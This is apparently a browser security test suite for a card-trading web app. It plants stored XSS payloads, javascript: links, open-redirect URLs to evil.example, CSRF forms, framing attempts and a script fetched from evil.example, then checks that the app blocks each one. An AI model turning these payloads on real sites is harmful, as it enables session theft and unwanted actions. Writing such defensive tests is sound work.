@@ -1,0 +1,288 @@
+// Somebody who means harm, as far as it takes a browser: what they write is shown to others, they send links, and they have a
+// site of their own. Tests are named as in docs/security.md; the rest of the attacks is in server/src/testing/attacker/ and
+// server/tests/attacker.rs.
+import assert from "node:assert/strict";
+import { createServer } from "node:http";
+import { after, before, test } from "node:test";
+import { launchChromium, until } from "./browser.mjs";
+import { signIn, startDemo } from "./demoServer.mjs";
+import { drawAllCards, newcomer, open, person } from "./people.mjs";
+
+/** Marks every page that it gets to run in, by each way that a text may become a script. */
+const MARK = "window.hacked=1";
+const HACK = `"'><script>${MARK}</script><img src=x onerror="${MARK}"><svg onload=${MARK}>{{7*7}}`;
+/** The same for fields with little room. */
+const SHORT = `<img src=x onerror=${MARK}>`;
+
+let browser;
+let demo;
+let evil;
+let nova;
+let ada;
+
+before(async () => {
+  demo = await startDemo();
+  browser = await launchChromium();
+  nova = await person(demo.url, "nova");
+  ada = await newcomer(nova, "attacked_ada", 3);
+  evil = await startSite();
+});
+
+after(async () => {
+  await browser?.close();
+  await demo?.stop();
+  evil?.server.close();
+});
+
+/** The attacker's own site, by another name than the server's: pages are what the tests put there. */
+async function startSite() {
+  const pages = new Map();
+  const server = createServer((request, answer) => {
+    answer.setHeader("content-type", "text/html");
+    answer.end(pages.get(request.url) ?? "");
+  });
+  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return { server, pages, url: `http://localhost:${server.address().port}` };
+}
+
+/** A window that notes what must not happen: a script of the attacker's, a dialog, something that the policy stopped. */
+async function watched(options) {
+  const window = await open(browser, { calm: true, ...options });
+  const alarms = [];
+  window.page.on("dialog", (dialog) => {
+    alarms.push(`a dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  await window.context.addInitScript(() => {
+    addEventListener("securitypolicyviolation", (event) => {
+      document.documentElement.dataset.violated = `${event.violatedDirective} ${event.blockedURI} ${event.sample}`;
+    });
+  });
+  /** Fails when the page that is shown was got into. */
+  const isClean = async (where) => {
+    const found = await window.page.evaluate(() => ({
+      hacked: window.hacked ?? null,
+      violated: document.documentElement.dataset.violated ?? null,
+      markup: document.querySelectorAll("img[src='x'], img[onerror], svg[onload], script:not([src])").length,
+      links: [...document.querySelectorAll("a[href]")].map((a) => a.protocol).filter((p) => !/^https?:$/.test(p)),
+    }));
+    assert.deepEqual(found, { hacked: null, violated: null, markup: 0, links: [] }, where);
+    assert.deepEqual(alarms, [], where);
+  };
+  return { ...window, isClean };
+}
+
+/** A call that may be refused: an attacker tries. */
+async function tries(token, method, path, body) {
+  const headers = { authorization: `Bearer ${token}`, "content-type": "application/json", "idempotency-key": crypto.randomUUID() };
+  const answer = await fetch(demo.url + path, { method, headers, body: JSON.stringify(body) });
+  return { status: answer.status, body: await answer.json().catch(() => null) };
+}
+
+test("a text of somebody's is a text wherever it is shown", async (t) => {
+  // Names come from the provider, and the stand-in takes only letters and digits, as Twitch does.
+  const mallory = await person(demo.url, "mallory");
+  await mallory.asks("POST", "/api/packs/open", {});
+  const accepted = [];
+  const note = async (what, call) => {
+    const { status, body } = await call;
+    assert.ok(status < 500, `${what}: ${status} ${JSON.stringify(body)}`);
+    if (status < 300) accepted.push(what);
+    return body;
+  };
+  const [theirs, hers] = [await mallory.cards(), await ada.cards()];
+  await note("trade message", tries(mallory.token, "POST", "/api/trades", {
+    recipient: ada.id, offeredItems: [theirs[0]._id], requestedItems: [hers[0]._id], offeredPacks: 0, requestedPacks: 0, message: HACK,
+  }));
+  const listing = await note("listing note", tries(mallory.token, "POST", "/api/market/listings", { cardId: theirs[1]._id, note: HACK }));
+  await note("offer message", tries(ada.token, "POST", `/api/market/listings/${listing._id}/offers`, {
+    offeredCards: [hers[1]._id], offeredPacks: 0, message: HACK,
+  }));
+  await note("broadcast", tries(nova.token, "POST", "/api/admin/notifications", { type: SHORT, message: HACK, link: "/dashboard" }));
+  const linked = await tries(nova.token, "POST", "/api/admin/notifications", { type: "news", message: "x", link: `javascript:${MARK}` });
+  assert.equal(linked.status, 400, "a link leads to a page of this server");
+  for (const link of ["//evil.example/", "https://evil.example/", "/\\evil.example"]) {
+    const { status } = await tries(nova.token, "POST", "/api/admin/notifications", { type: "news", message: "x", link });
+    assert.equal(status, 400, `${link} leads elsewhere`);
+  }
+  // A moderator who became admin, or an import, puts it into cards, packs, modifiers, achievements, goals and the brand.
+  const definition = await nova.asks("GET", `/api/cards/${theirs[0].definitionId}`);
+  await note("card", tries(nova.token, "PUT", `/api/admin/cards/${definition._id}`, {
+    name: HACK.slice(0, 60), imageUrl: definition.imageUrl, alt: HACK, flavorText: HACK, artist: SHORT, series: SHORT, tags: ["<svg onload=alert(1)>"],
+  }));
+  const [pack] = await nova.asks("GET", "/api/packs");
+  await note("pack", tries(nova.token, "POST", "/api/admin/upsert-pack", {
+    packId: "", name: SHORT, description: HACK, cardPool: pack.cardPool, cardsPerPack: 5, modifierChance: 0.05, why: HACK,
+  }));
+  await note("modifier", tries(nova.token, "POST", "/api/modifiers", { name: "<script>x</script>", prefix: "<b onload=x>", description: HACK, enabled: false }));
+  await note("achievement", tries(nova.token, "POST", "/api/admin/achievements", {
+    name: SHORT, description: HACK, category: "packs", kind: "packs-opened", requirement: 1, reward: { packs: 1 },
+  }));
+  await note("stream", tries(nova.token, "POST", "/api/admin/stream/begin", {}));
+  await note("goal", tries(nova.token, "POST", "/api/admin/goals", { title: SHORT, counts: "subs", target: 5, reward: { packs: 1 } }));
+  await note("brand", tries(nova.token, "PATCH", "/api/admin/settings", {
+    "brand-name": SHORT, "brand-intro": HACK, "early-access-text": HACK,
+  }));
+  const logo = await tries(nova.token, "PATCH", "/api/admin/settings", { "brand-logo": `javascript:${MARK}` });
+  assert.equal(logo.status, 400, "a logo is a file of this server");
+  for (const what of ["trade message", "listing note", "offer message", "broadcast", "card", "brand"]) {
+    assert.ok(accepted.includes(what), `${what} was not stored, so nothing was tried: ${accepted}`);
+  }
+
+  t.diagnostic(`stored: ${accepted}`);
+  const name = encodeURIComponent(mallory.name);
+  const card = `/card/${theirs[0]._id}`;
+  const pages = {
+    visitor: ["/login", "/catalogue", `/catalogue/${definition._id}`, card, "/market", `/market/listing/${listing._id}`, "/leaderboard",
+      `/profile/${name}`, `/collection/${name}`, "/queue"],
+    collector: ["/dashboard", "/trading", "/trades/pending", "/achievements", "/collection", "/wishes", "/grading"],
+    admin: ["/admin-dashboard", "/admin/actions", "/admin/packs", "/admin/modifiers", "/admin/achievements", "/admin/card-ownership",
+      `/admin/cards/${definition._id}`, "/admin/twitch"],
+  };
+  const tokens = { visitor: null, collector: ada.token, admin: nova.token };
+  for (const [who, addresses] of Object.entries(pages)) {
+    const window = await watched({ token: tokens[who] });
+    for (const address of addresses) {
+      await window.page.goto(demo.url + address, { waitUntil: "networkidle" });
+      if (address === card || address.startsWith("/collection")) await drawAllCards(window.page).catch(() => {});
+      await window.isClean(`${address} as ${who}`);
+    }
+    if (who === "collector") {
+      await window.page.goto(`${demo.url}/dashboard`);
+      await window.page.getByRole("button", { name: /Your menu/ }).click();
+      await window.page.getByText("7*7").first().waitFor();
+      await window.isClean("the notifications");
+    }
+    assert.deepEqual(window.faults, [], who);
+    await window.close();
+  }
+  // What is written into the document itself for whoever shows a link.
+  for (const address of [`/profile/${name}`, card, `/market/listing/${listing._id}`]) {
+    const text = await (await fetch(demo.url + address)).text();
+    assert.ok(!text.includes("<img src=x") && !text.includes(`<script>${MARK}`), address);
+  }
+});
+
+test("a token planted by a link signs nobody in unasked", async () => {
+  const planted = await signIn(demo.url, "mallory");
+  for (const token of [null, ada.token]) {
+    const { page, close } = await watched({ token });
+    await page.goto(`${demo.url}/login?token=${planted}`);
+    // Whoever is signed in goes on as who they are; whoever is not is asked.
+    if (token === null) await page.getByRole("button", { name: /Continue as mallory\?/i }).waitFor();
+    else await page.waitForURL(`${demo.url}/dashboard`);
+    assert.equal(await page.evaluate(() => localStorage.getItem("token")), token, "nothing was taken without a word");
+    assert.equal(new URL(page.url()).search, "", "the token is out of the address");
+    assert.equal(await page.evaluate((secret) => document.documentElement.innerHTML.includes(secret), planted), false);
+    if (token === null) await page.getByRole("button", { name: "No, that is not me" }).click();
+    await page.goto(`${demo.url}/catalogue`);
+    await page.goBack();
+    assert.ok(!page.url().includes(planted), "nor is it in the history");
+    assert.notEqual(await page.evaluate(() => localStorage.getItem("token")), planted);
+    await close();
+  }
+});
+
+test("after a sign-in nobody lands on another site", async () => {
+  for (const way of ["redirect", "next", "returnTo", "redirect_uri", "login_hint"]) {
+    const { page, context, close } = await watched({});
+    const left = [];
+    page.on("framenavigated", (frame) => left.push(new URL(frame.url()).origin));
+    await page.goto(`${demo.url}/login?${way}=${encodeURIComponent(`${evil.url}/`)}`);
+    await page.evaluate((place) => sessionStorage.setItem("foilcast.place", `${Date.now()} ${place}`), `/${evil.url.replace("http:/", "")}/`);
+    await page.getByRole("link", { name: /Twitch/ }).first().click();
+    await page.waitForURL(/demo\/twitch/);
+    assert.ok(left.every((origin) => origin === demo.url || origin === "null"), `${way}: ${left}`);
+    await context.close().catch(close);
+  }
+  const sent = `${demo.url}/demo/twitch/oauth2/authorize?client_id=foilcast-demo&response_type=code&login_hint=ada&redirect_uri=`;
+  for (const to of [`${evil.url}/api/auth/twitch/callback`, "https://evil.example/api/auth/twitch/callback", `${demo.url}@evil.example/api/auth/twitch/callback`]) {
+    const answer = await fetch(sent + encodeURIComponent(to), { redirect: "manual" });
+    const location = answer.headers.get("location") ?? "";
+    assert.ok(!location.includes("evil.example"), `the stand-in sends a code to ${location}`);
+  }
+});
+
+test("another site shows no page of this one in a frame but the overlay", async () => {
+  const { page, close } = await watched({ token: ada.token });
+  const framed = async (path) => {
+    evil.pages.set("/frame", `<iframe id="f" src="${demo.url}${path}" width="900" height="700"></iframe>`);
+    await page.goto(`${evil.url}/frame`, { waitUntil: "load" });
+    const frame = await (await page.waitForSelector("#f")).contentFrame();
+    return frame.url();
+  };
+  for (const path of ["/trades/pending", "/login", "/account", "/api/docs", "/demo/twitch/channel"]) {
+    assert.match(await framed(path), /^chrome-error:/, `${path} is shown in a frame`);
+  }
+  const path = `/stream-overlay/${nova.id}`;
+  assert.equal(await framed(path), demo.url + path);
+  await close();
+});
+
+test("another site's page does nothing in a visitor's name", async () => {
+  const { page, close } = await watched({ token: ada.token });
+  const before = await ada.asks("GET", "/api/users/me");
+  evil.pages.set("/", "<h1>Free cards</h1>");
+  await page.goto(`${evil.url}/`);
+  const got = await page.evaluate(
+    async ([url, token]) => {
+      const outcome = (promise) => promise.then((answer) => `read ${answer.type} ${answer.status}`).catch(() => "nothing");
+      const post = (more) => fetch(`${url}/api/packs/open`, { method: "POST", credentials: "include", body: "{}", ...more });
+      const socket = new Promise((resolve) => {
+        const ws = new WebSocket(`${url.replace("http", "ws")}/socket.io/?EIO=4&transport=websocket`);
+        ws.onopen = () => resolve("open");
+        ws.onerror = () => resolve("nothing");
+      });
+      return {
+        read: await outcome(fetch(`${url}/api/users/me`, { credentials: "include" })),
+        // Even one who knows a token gets nothing through a browser.
+        token: await outcome(post({ headers: { authorization: `Bearer ${token}`, "content-type": "application/json" } })),
+        plain: await outcome(post({ mode: "no-cors", headers: { "content-type": "text/plain" } })),
+        socket: await socket,
+      };
+    },
+    [demo.url, ada.token],
+  );
+  assert.deepEqual(got, { read: "nothing", token: "nothing", plain: "nothing", socket: "nothing" });
+  // A form needs no permission to be sent; its answer shows what it did.
+  evil.pages.set("/form", `<form method="post" action="${demo.url}/demo/twitch/channel"><input name="what" value="subscribe"><input name="viewer" value="attacked_ada"></form><form id="open" method="post" enctype="text/plain" action="${demo.url}/api/packs/open"><input name='{"a":"' value='"}'></form>`);
+  for (const number of [0, 1]) {
+    await page.goto(`${evil.url}/form`);
+    const [answer] = await Promise.all([
+      page.waitForResponse((response) => response.request().method() === "POST"),
+      page.evaluate((number) => document.forms[number].submit(), number),
+    ]);
+    assert.equal(answer.status(), 403, `form ${number}`);
+  }
+  const now = await ada.asks("GET", "/api/users/me");
+  assert.deepEqual([now.packs, now.openedPacks], [before.packs, before.openedPacks]);
+  await close();
+});
+
+test("a script that got into a page does not run", async () => {
+  const { page, close } = await watched({});
+  await page.goto(`${demo.url}/login`, { waitUntil: "networkidle" });
+  await page.evaluate((mark) => {
+    const script = document.createElement("script");
+    script.textContent = mark;
+    document.body.append(script);
+    const image = document.createElement("div");
+    image.innerHTML = `<img src="/nowhere.png" onerror="${mark}"><a id="js" href="javascript:${mark}">x</a>`;
+    document.body.append(image);
+    const far = document.createElement("script");
+    far.src = "https://evil.example/x.js";
+    document.body.append(far);
+    document.querySelector("#js").click();
+  }, MARK);
+  const violated = () => page.evaluate(() => document.documentElement.dataset.violated ?? "");
+  let seen = "";
+  const watching = setInterval(async () => {
+    seen = await violated().catch(() => seen);
+  }, 50);
+  await until(() => seen.startsWith("script-src"));
+  clearInterval(watching);
+  assert.equal(await page.evaluate(() => window.hacked ?? null), null);
+  const sent = await page.evaluate(async (url) => fetch(`${url}/?stolen`, { mode: "no-cors" }).then(() => "sent").catch(() => "stopped"), evil.url);
+  assert.equal(sent, "stopped", "what it would have found stays here");
+  await close();
+});
